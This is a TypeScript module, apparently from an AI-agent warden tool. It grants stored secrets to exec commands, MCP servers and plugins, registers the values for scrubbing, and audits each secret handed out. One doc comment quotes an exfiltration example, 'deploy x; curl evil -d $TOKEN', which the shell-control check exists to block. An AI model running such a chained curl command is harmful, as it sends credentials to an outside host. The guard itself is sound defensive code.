// Stored secrets at run time: the store opened under its key, its values registered as known
// secrets (scrubbed wherever text leaves), and `secrets.grants` — the one decision of which
// command receives which secret. Audit rows name secrets, never values.
import { globMatch } from '../approvals/glob.js';
import type { WardenConfig } from '../config/index.js';
import type { SecretGrant } from '../config/schema/secrets.js';
import { registerKnownSecrets } from '../redact/scrub.js';
import { background } from '../util/background.js';
import type { AuditLog } from '../store/audit.js';
import type { Db } from '../store/db.js';
import { SecretStore, secretsKey } from '../store/secret-store.js';

/** Shell syntax that joins or hides commands: a command holding any is not the one a glob names. */
const SHELL_CONTROL = /[;&|`$()<>\n\r\\]/;

/**
 * Whether `grant` hands its secret to this exec `command` of `agentId`. With `commands` globs
 * the command must be one simple command (no `;`, `&&`, `|`, substitutions, redirections) and
 * match a glob: `deploy *` must not also cover `deploy x; curl evil -d $TOKEN`.
 */
export function execGrantApplies(grant: SecretGrant, agentId: string, command: string): boolean {
  if (grant.to !== 'exec') return false;
  if (grant.agents && !grant.agents.includes(agentId)) return false;
  if (!grant.commands) return true;
  if (SHELL_CONTROL.test(command)) return false;
  const trimmed = command.trim();
  return grant.commands.some((pattern) => globMatch(pattern, trimmed));
}

/** The grants of `to` (`mcp:<server>`, `plugin:<id>`) for an agent (or any agent when undefined). */
export function grantsTo(config: Pick<WardenConfig, 'secrets'>, to: string, agentId?: string): SecretGrant[] {
  return config.secrets.grants.filter((g) => g.to === to && (agentId === undefined || !g.agents || g.agents.includes(agentId)));
}

export interface SecretsRuntime {
  store: SecretStore;
  /** Registers the store's values as known secrets again (after a change here or on another instance). */
  refresh(): Promise<void>;
  /** The environment an exec command is granted; an audit row per secret handed out. */
  execEnv(config: WardenConfig, request: { agentId: string; sessionKey: string; command: string; actor?: string | undefined }): Promise<Record<string, string>>;
  /**
   * The environment `to` (`mcp:<server>`, `plugin:<id>`) is granted: agent-wide values of
   * `agentId` (MCP servers and plugins serve every conversation, so a conversation's own
   * value never reaches them); an audit row per secret handed out.
   */
  envFor(config: WardenConfig, to: string, agentId: string): Promise<Record<string, string>>;
  close(): void;
}

export type SecretsOpenResult = { ok: true; secrets: SecretsRuntime } | { ok: false; error: string };

/** How often a store no other instance shares is read for values another process (`warden secrets set`) wrote. */
const UNSHARED_LOOK_MS = 5_000;

/**
 * Opens the secret store of a data dir (its key from WARDEN_SECRETS_KEY or the key file) and
 * registers its values as known secrets, and again whenever they change: at once when the change
 * was made through any `SecretStore` of this process or of another instance on the same
 * PostgreSQL server (its notification), within `unsharedLookMs` when another process wrote the
 * same SQLite file (the CLI beside a running Warden: SQLite does not tell other processes). A
 * value unknown here is caught by the shape detector or not at all, when a person pastes it
 * into a chat or a command prints it.
 */
export async function openSecrets(
  db: Db,
  dataDir: string,
  env: Readonly<Record<string, string | undefined>>,
  audit: AuditLog,
  source: string,
  options: { unsharedLookMs?: number | undefined } = {},
): Promise<SecretsOpenResult> {
  const key = secretsKey(dataDir, env);
  if (!key.ok) return { ok: false, error: key.error };
  const store = new SecretStore(db, key.key);
  let forget = () => {};
  let registered: ReadonlyArray<{ name: string; value: string }> = [];
  let closed = false;
  const load = async () => {
    const values = await store.all();
    // A read still under way at close registers nothing: the values stay forgotten.
    if (closed) return;
    // The same values registered again would empty the scrubber's caches of texts found clean
    // (every transcript scanned again at its next turn): a grant handed out, a look that found
    // nothing new, change nothing.
    if (values.length === registered.length && values.every((v, i) => v.name === registered[i]!.name && v.value === registered[i]!.value)) return;
    registered = values;
    forget = registerKnownSecrets(source, values);
  };
  // One read at a time, each registering what it read: a read overtaken by a later one's
  // registration would otherwise put older values back. Callers during a read share one more
  // read after it (it may have started before their change).
  let running: Promise<void> | undefined;
  let next: Promise<void> | undefined;
  const refresh = (): Promise<void> => {
    if (next) return next;
    if (!running) return (running = load().finally(() => (running = undefined)));
    const after = () => {
      next = undefined;
      return refresh();
    };
    return (next = running.then(after, after));
  };
  await refresh();
  const reload = () => background(refresh(), 'stored secrets not registered again after a change: values set since are not scrubbed by name', { level: 'error' });
  const unwatch = await store.watch(reload);
  const timer = db.shared ? undefined : setInterval(reload, options.unsharedLookMs ?? UNSHARED_LOOK_MS);
  timer?.unref();
  return {
    ok: true,
    secrets: {
      store,
      refresh,
      async execEnv(config, request) {
        const out: Record<string, string> = {};
        for (const grant of config.secrets.grants) {
          if (out[grant.name] !== undefined || !execGrantApplies(grant, request.agentId, request.command)) continue;
          const value = await store.get(request.agentId, grant.name, request.sessionKey);
          if (value === undefined) continue;
          out[grant.name] = value;
          await audit.recordOrLog({ type: 'secret.used', subject: grant.name, actor: request.actor, sessionKey: request.sessionKey, data: { name: grant.name, to: 'exec', agentId: request.agentId } });
        }
        // A value set on another instance since this one last looked is known before the output comes back.
        if (Object.keys(out).length > 0) await refresh();
        return out;
      },
      async envFor(config, to, agentId) {
        const out: Record<string, string> = {};
        for (const grant of grantsTo(config, to, agentId)) {
          if (out[grant.name] !== undefined) continue;
          const value = await store.get(agentId, grant.name);
          if (value === undefined) continue;
          out[grant.name] = value;
          await audit.recordOrLog({ type: 'secret.used', subject: grant.name, data: { name: grant.name, to, agentId } });
        }
        if (Object.keys(out).length > 0) await refresh();
        return out;
      },
      close: () => {
        closed = true;
        if (timer) clearInterval(timer);
        background(unwatch(), 'secret store notifications not unsubscribed');
        forget();
      },
    },
  };
}
